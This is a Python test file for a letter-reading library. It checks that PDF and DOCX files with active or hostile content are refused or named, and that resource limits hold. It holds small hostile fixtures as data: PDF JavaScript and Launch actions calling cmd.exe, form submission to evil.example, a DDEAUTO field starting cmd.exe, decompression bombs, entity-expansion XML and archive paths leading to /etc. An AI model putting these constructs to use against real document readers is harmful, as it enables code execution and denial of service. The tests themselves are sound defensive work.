"""Hostile letters are refused, or what is in them is named, in bounded time; nothing in them is run or opened."""

import time
import zlib
from collections.abc import Iterator
from contextlib import suppress
from io import BytesIO

import pytest
from tests.samples import hostile
from tests.samples.hostile import embedded, flate, nested_pages, pdf, stream
from tests.samples.letterfiles import docx_of, zipped

from comity.letters.errors import ActiveContentError, LetterFileError, LetterLimitError
from comity.letters.read.file import open_file
from comity.letters.read.limits import ReadLimits

PROCESSOR_SECONDS = 10.0
SMALL = ReadLimits(
    stream_bytes=1 << 20,
    pages=50,
    objects=500,
    text_chars=10_000,
    operations=2_000,
    embedded_files=3,
    content_bytes=2_000_000,
    forms=100,
    data_bytes=1_000,
    file_bytes=1 << 20,
    parts=20,
    part_bytes=1 << 20,
    unpacked_bytes=1 << 21,
    elements=1_000,
)


@pytest.fixture(autouse=True)
def _bounded() -> Iterator[None]:
    began = time.process_time()
    yield
    assert time.process_time() - began < PROCESSOR_SECONDS


def test_the_harmless_one_is_read() -> None:
    opened = open_file(pdf({}))
    assert [line.text for line in opened.lines] == ["Please preserve the account"]
    link = pdf({5: b"<< /Type /Annot /A << /S /URI /URI (https://x.example) >> >>"})
    assert open_file(link).lines


ACTS = {
    "a script": [
        pdf({}, catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        pdf({5: b"<< /S /JavaScript /JS (x) >>"}),
        pdf({}, catalog=b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
        pdf({3: hostile.PAGE[:-2] + b"/AA << /O << /S /JavaScript /JS 5 0 R >> >> >>", 5: stream(b"x")}),
        pdf({}, catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"),
        hostile.in_object_stream(b"<< /S /JavaScript /JS (x) >>"),
    ],
    "an action that starts a program": [pdf({}, catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")],
    "an action that sends a form": [pdf({5: b"<< /S /SubmitForm /F (http://evil.example) >>"})],
    "an action that opens another file": [pdf({5: b"<< /A << /S /GoToR /F (//evil.example/x) >> >>"})],
    "an action that opens a file inside": [pdf({5: b"<< /S /GoToE /F (x) >>"})],
    "a form that acts (XFA)": [pdf({}, catalog=b"/AcroForm << /XFA 5 0 R >>")],
    "a film or program": [pdf({5: b"<< /Subtype /RichMedia /RichMediaContent 6 0 R >>"})],
    "the file 'invoice.exe'": [pdf(embedded(b"invoice.exe", b"MZ" + bytes(100)))],
}


@pytest.mark.parametrize(("told", "data"), [(told, data) for told, every in ACTS.items() for data in every])
def test_what_acts_is_named(told: str, data: bytes) -> None:
    with pytest.raises(ActiveContentError) as caught:
        open_file(data)
    assert told in caught.value.found
    assert "treat it as hostile" in str(caught.value)


def test_files_inside_can_be_named_instead() -> None:
    opened = open_file(pdf(embedded(b"list.csv", b"1,2")), files_inside=True)
    assert opened.files == ("list.csv",)
    with pytest.raises(ActiveContentError):
        open_file(pdf(embedded(b"a.csv", b""), catalog=b"/OpenAction << /S /Launch >>"), files_inside=True)


def many_kids(count: int) -> dict[int, bytes]:
    return {2: b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"3 0 R " * count)}


def many_files(count: int) -> dict[int, bytes]:
    one = b"<< /Type /Filespec /F (a) /EF << /F 21 0 R >> >>"
    return {20: b"[%s]" % (one * count), 21: stream(b"x")}


LIMITS = {
    "pages": pdf(many_kids(60)),
    "depth": pdf(nested_pages(100)),
    "objects": pdf({n: b"null" for n in range(10, 600)}),
    "operations": pdf(many_kids(2) | {4: stream(b"q Q " * 700)}),
    "content_bytes": pdf(many_kids(3) | {4: flate(b" " * 900_000)}),
    "forms": pdf({4: stream(b"/X Do " * 600)}),
    "text_chars": pdf({4: stream(b"BT /F1 9 Tf (%s) Tj ET " % (b"x" * 3_000) * 5)}),
    "embedded_files": pdf(many_files(5)),
    "data_bytes": pdf(embedded(b"letter.json", b"{" + b" " * 5_000)),
    "file_bytes": pdf({4: stream(bytes(2 << 20))}),
}


@pytest.mark.parametrize(("limit", "data"), list(LIMITS.items()))
def test_limits_of_a_pdf(limit: str, data: bytes) -> None:
    with pytest.raises(LetterLimitError) as caught:
        open_file(data, limits=SMALL)
    assert caught.value.limit == limit
    assert caught.value.allowed == getattr(SMALL, limit)


def test_numbers_without_end() -> None:
    with pytest.raises(LetterFileError, match="tokens per stream"):
        open_file(pdf({4: flate(b"1 " * 400_000)}))


LOOPS = {
    "a page tree that holds itself": pdf({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    "two that hold each other": pdf({2: b"<< /Kids [5 0 R] /Count 1 >>", 5: b"<< /Kids [2 0 R] /Count 1 >>"}),
    "tables that follow each other": pdf({}, trailer=b"/Prev 15"),
    "a length that is itself": pdf({4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"}),
    "an object that is itself": pdf({3: b"3 0 R"}),
    "arrays in arrays": pdf({5: b"[" * 20_000 + b"]" * 20_000}),
    "dictionaries in dictionaries": pdf({5: b"<< /A " * 20_000}),
    "a stream that bursts": pdf({4: hostile.BOMB}),
    "a stream that bursts twice": pdf(
        {4: flate(zlib.compress(b"0" * (200 << 20)), b"/Filter [/FlateDecode /FlateDecode]")}
    ),
    "data that burst": pdf({20: b"<< /F (letter.json) /EF << /F 21 0 R >> >>", 21: hostile.BOMB}),
}


@pytest.mark.parametrize("name", list(LOOPS))
def test_loops_and_bombs_end(name: str) -> None:
    try:
        opened = open_file(LOOPS[name])
    except LetterFileError as error:
        assert "ask" in str(error)
    else:
        assert len(opened.lines) <= 1


def test_a_form_that_draws_itself() -> None:
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 5 0 R >> >>")
    page = hostile.PAGE.replace(hostile.FONT, b"/XObject << /X 5 0 R >>")
    with suppress(LetterFileError):
        open_file(pdf({3: page, 4: stream(b"/X Do"), 5: form}))


def test_encrypted() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf({}))))
    writer.encrypt("secret", algorithm="AES-256")
    buffer = BytesIO()
    writer.write(buffer)
    with pytest.raises(LetterFileError, match="encrypted"):
        open_file(buffer.getvalue())
    with pytest.raises(LetterFileError, match="encrypted"):
        open_file(hostile.zip_encrypted())


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "it is empty"),
        (b" \n\t", "it is empty"),
        (b"\x89PNG\r\n\x1a\n" + b"x" * 99, "a picture"),
        (b"\xff\xd8\xff\xe0" + b"x" * 99, "a picture"),
        (b"{\\rtf1 Please preserve the account.}", "rich text"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "old word processor"),
        (b"PK\x03\x04", "an archive that is no DOCX"),
        (b"\x00\x01", "no letter that can be read"),
        (b"MZ\x90\x00", "no letter that can be read"),
        (b"\x1f\x8b\x08\x01", "no letter that can be read"),
    ],
)
def test_no_letter_at_all(data: bytes, told: str) -> None:
    with pytest.raises(LetterFileError, match=told):
        open_file(data)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_text_as_mail_programs_save_it(encoding: str) -> None:
    said = "Просим обеспечить сохранность данных.\nЗаранее благодарим."
    assert [line.text for line in open_file(said.encode(encoding)).lines] == said.splitlines()


def test_a_member_that_is_never_read_may_burst_elsewhere() -> None:
    bomb = docx_of(["A letter."], extra={"word/media/picture.png": bytes(200 << 20)})
    with pytest.raises(LetterLimitError) as caught:
        open_file(bomb)
    assert caught.value.limit == "unpack_ratio"
    many = docx_of(["A letter."], extra={f"word/media/{n}.png": bytes(1 << 19) for n in range(9)})
    with pytest.raises(LetterLimitError, match="unpacked_bytes"):
        open_file(many, limits=ReadLimits(unpacked_bytes=4 << 20))


DOCX_ACTS = {
    "macros": hostile.docx_with("word/vbaProject.bin", b"x"),
    "files or programs inside": hostile.docx_with("word/embeddings/oleObject1.bin", b"x"),
    "a program (ActiveX)": hostile.docx_with("word/activeX/activeX1.xml", b"x"),
    "a program": hostile.docx_with("word/media/run.exe", b"MZ"),
    "a link that Word follows by itself (attachedTemplate)": hostile.docx_with(
        "word/_rels/settings.xml.rels", hostile.RELATIONS.format(kind="attachedTemplate").encode()
    ),
    "a link that Word follows by itself (oleObject)": hostile.docx_with(
        "word/_rels/document.xml.rels", hostile.RELATIONS.format(kind="oleObject").encode()
    ),
    "a field that fetches or starts something": hostile.docx_of_xml(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r>'
        '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:document>'
    ),
}


@pytest.mark.parametrize("told", list(DOCX_ACTS))
def test_what_acts_in_a_docx(told: str) -> None:
    with pytest.raises(ActiveContentError) as caught:
        open_file(DOCX_ACTS[told])
    assert told in caught.value.found


def test_a_plain_link_in_a_docx_is_no_harm() -> None:
    link = hostile.docx_with("word/_rels/document.xml.rels", hostile.RELATIONS.format(kind="hyperlink").encode())
    assert open_file(link).lines


DOCX_LIMITS = {
    "unpack_ratio": (hostile.zip_bomb(64 << 20), ReadLimits()),
    "part_bytes": (hostile.zip_bomb(2 << 20), ReadLimits(part_bytes=1 << 20, unpack_ratio=100_000)),
    "unpacked_bytes": (hostile.zip_bomb(2 << 20), ReadLimits(unpacked_bytes=1 << 20, unpack_ratio=100_000)),
    "parts": (docx_of(["x"], extra={f"a{n}": b"" for n in range(30)}), SMALL),
    "elements": (hostile.docx_of_xml(f"<a>{'<b/>' * 1_100}</a>"), SMALL),
    "depth": (hostile.docx_of_xml("<a>" * 200 + "</a>" * 200), SMALL),
    "text_chars": (docx_of(["x" * 11_000]), SMALL),
    "data_bytes": (docx_of(["x"], data=b"{" + b" " * 2_000 + b"}"), SMALL),
    "file_bytes": (zipped({"word/a": bytes(1)}) + bytes(2 << 20), SMALL),
}


@pytest.mark.parametrize("limit", list(DOCX_LIMITS))
def test_limits_of_a_docx(limit: str) -> None:
    data, limits = DOCX_LIMITS[limit]
    with pytest.raises(LetterLimitError) as caught:
        open_file(data, limits=limits)
    assert caught.value.limit == limit


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (hostile.docx_of_xml(hostile.LAUGHS), "document type"),
        (hostile.docx_of_xml(hostile.OUTSIDE), "document type"),
        (hostile.docx_with("customXml/item1.xml", hostile.LAUGHS.encode()), "document type"),
        (hostile.docx_of_xml("<a><b></a>"), "broken XML"),
        (hostile.docx_with("../../etc/cron.d/x", b""), "leads out of the archive"),
        (hostile.docx_with("/etc/passwd", b""), "leads out of the archive"),
        (hostile.zip_twice(), "two members of one name"),
        (docx_of(["x"])[:200], "damaged"),
    ],
)
def test_other_refusals(data: bytes, told: str) -> None:
    with pytest.raises(LetterFileError, match=told):
        open_file(data)


def test_limits_of_text_and_json() -> None:
    with pytest.raises(LetterLimitError, match="text_chars"):
        open_file(b"x " * 6_000, limits=SMALL)
    with pytest.raises(LetterLimitError, match="data_bytes"):
        open_file(b"{" + b" " * 2_000, limits=SMALL)
    assert open_file("Sehr geehrte Damen und Herren, für".encode("latin-1")).lines
